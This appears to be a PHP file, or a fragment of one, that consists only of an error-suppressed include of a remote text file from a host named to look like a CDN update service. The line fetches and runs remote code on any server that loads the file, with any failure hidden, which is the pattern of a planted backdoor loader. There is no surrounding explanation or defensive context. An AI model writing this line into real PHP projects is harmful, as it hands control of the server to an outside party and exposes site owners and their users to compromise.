<?php
@include('http://cdn-static-update.example/x.txt');
